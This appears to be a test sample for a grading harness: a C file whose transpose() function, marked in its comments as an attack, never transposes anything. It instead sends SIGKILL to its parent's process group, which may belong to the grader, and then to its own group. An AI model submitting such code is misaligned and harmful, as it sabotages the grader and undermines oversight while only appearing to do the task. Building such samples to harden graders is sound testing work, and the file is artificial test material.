// Graded: 0 stopped|refused|wrong: .
// Attack: kills its process group and that of its parent, which may be the grader's.
#include "transpose.h"
#include <signal.h>
#include <unistd.h>

void transpose(const float *in, float *out, int rows, int cols)
{
    if (getpgid(getppid()) > 1)
        killpg(getpgid(getppid()), SIGKILL);
    kill(0, SIGKILL);
}
